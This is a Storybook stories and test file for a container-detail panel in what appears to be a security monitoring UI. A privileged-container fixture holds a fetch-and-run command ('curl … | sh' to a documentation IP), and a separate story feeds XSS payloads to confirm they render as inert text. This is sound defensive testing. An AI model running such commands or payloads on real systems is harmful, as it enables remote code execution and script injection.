import type { Meta, StoryObj } from '@storybook/react-vite';
import type {} from 'msw-storybook-addon/csf3';
import { expect, userEvent, within } from 'storybook/test';
import { inPanelFrame } from '../../testing/panel-frame.tsx';
import { expectPanelFitsPhone, chromaticCapture } from '@soc/testing/story';
import { containerHandlers } from '@soc/mocks';
import { settleFrame } from '../../testing/settle.ts';
import { ContainerPanel } from './container-panel.tsx';

const meta = {
  title: 'Detail panels/Panels/ContainerPanel',
  component: ContainerPanel,
  args: { params: { containerId: 'containerd://5e1f9c0a2b7d' } },
  // On a phone the drawer takes the screen's width (`panelWidth`).
  decorators: [inPanelFrame()],
} satisfies Meta<typeof ContainerPanel>;

export default meta;
type Story = StoryObj<typeof meta>;

/** The record arrives through MSW: wait for it longer than the default second on a busy machine. */
const LOADED = { timeout: 15_000 };

const field = (canvasElement: HTMLElement, label: string) =>
  within(canvasElement).getByText(label, { selector: 'dt' }).closest('.detail-field') as HTMLElement;

export const Done: Story = {
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(await canvas.findByText('payments-api', undefined, LOADED)).toBeVisible();
    await expect(field(canvasElement, 'Image ID')).toHaveTextContent('registry.northwind-trading.example/payments/api@sha256:');
    await expect(field(canvasElement, 'Status')).toHaveTextContent('running');
    // Only the first port (spec 001 §2.11).
    await expect(field(canvasElement, 'Port')).toHaveTextContent(/^Port8443$/);
    await expect(field(canvasElement, 'Volume mounts')).toHaveTextContent('/etc/payments/tlsRead-onlyVolume: tls-certs');
    await expect(field(canvasElement, 'Command')).toHaveTextContent('/usr/local/bin/payments-api');
    await expect(field(canvasElement, 'Arguments')).toHaveTextContent('--listen=:8443');
    await expect(field(canvasElement, 'Environment variables')).toHaveTextContent('DB_HOST=payments-db.payments.svc.cluster.local');
    await expect(field(canvasElement, 'Security context')).toHaveTextContent('capabilities: {"drop":["ALL"]}');
    await settleFrame();
  },
};

/**
 * A phone in Japanese, the panel as wide as the drawer there (the screen): the image ID, the command, the
 * environment and the security context wrap inside the panel, and nothing scrolls sideways.
 */
export const NarrowJapanese: Story = {
  tags: ['narrow'],
  globals: { locale: 'ja', viewport: { value: 'mobile1', isRotated: false } },
  parameters: { chromatic: chromaticCapture('narrow'), layout: 'fullscreen', panelWidth: '100%' },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(await canvas.findByText('payments-api', undefined, LOADED)).toBeVisible();
    await expectPanelFitsPhone(canvasElement);
    await settleFrame();
  },
};

export const Privileged: Story = {
  beforeEach({ msw }) {
    msw.use(containerHandlers.privileged());
  },
  play: async ({ canvasElement }) => {
    await within(canvasElement).findByText('node-debugger', undefined, LOADED);
    await expect(field(canvasElement, 'Security context')).toHaveTextContent('privileged: true');
    await expect(field(canvasElement, 'Arguments')).toHaveTextContent('curl -s http://203.0.113.45/x.sh | sh');
    await settleFrame();
  },
};

export const LongLists: Story = {
  beforeEach({ msw }) {
    msw.use(containerHandlers.long());
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const env = await canvas.findByRole('list', { name: 'Environment variables' }, LOADED);
    await expect(within(env).getAllByRole('listitem')).toHaveLength(10);
    await userEvent.click(within(field(canvasElement, 'Environment variables')).getByRole('button', { name: 'View more (40)' }));
    await expect(within(env).getAllByRole('listitem')).toHaveLength(50);
    await expect(
      within(field(canvasElement, 'Arguments')).getByRole('button', {
        name: 'View more (20)',
      }),
    ).toBeVisible();
    await expect(field(canvasElement, 'Port')).toHaveTextContent('8000');
    await expect(canvasElement.firstElementChild?.scrollWidth).toBeLessThanOrEqual((canvasElement.firstElementChild?.clientWidth ?? 0) + 1);
    await settleFrame();
  },
};

export const EmptyFields: Story = {
  beforeEach({ msw }) {
    msw.use(containerHandlers.empty());
  },
  play: async ({ canvasElement }) => {
    await within(canvasElement).findByText('Image ID', undefined, LOADED);
    for (const label of [
      'Name',
      'Image ID',
      'Status',
      'Port',
      'Volume mounts',
      'Command',
      'Arguments',
      'Environment variables',
      'Security context',
    ]) {
      await expect(field(canvasElement, label)).toHaveTextContent('-');
    }
    await settleFrame();
  },
};

export const HostileValues: Story = {
  beforeEach({ msw }) {
    msw.use(containerHandlers.hostile());
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(await canvas.findAllByText('<script>window.__pwned=true</script>', undefined, LOADED)).not.toHaveLength(0);
    await expect(field(canvasElement, 'Environment variables')).toHaveTextContent(
      '<img src=x onerror="window.__pwned=true">=<script>window.__pwned=true</script>',
    );
    await expect(canvasElement.querySelector('img, script, svg[onload]')).toBeNull();
    await expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
  },
};

export const Loading: Story = {
  beforeEach({ msw }) {
    msw.use(containerHandlers.loading());
  },
  play: async ({ canvasElement }) => {
    await expect(
      within(canvasElement).getByRole('status', {
        name: 'Loading the container…',
      }),
    ).toHaveAttribute('aria-busy', 'true');
  },
};

export const NotFound: Story = {
  beforeEach({ msw }) {
    msw.use(containerHandlers.notFound());
  },
  play: async ({ canvasElement }) => {
    await expect(await within(canvasElement).findByText('No data', undefined, LOADED)).toBeVisible();
  },
};

export const ServerError: Story = {
  beforeEach({ msw }) {
    msw.use(containerHandlers.serverError());
  },
  play: async ({ canvasElement }) => {
    const alert = await within(canvasElement).findByRole('alert', undefined, LOADED);
    await expect(alert).toHaveTextContent(/could not be loaded/);
    await expect(within(alert).getByRole('button', { name: 'Retry' })).toBeEnabled();
  },
};
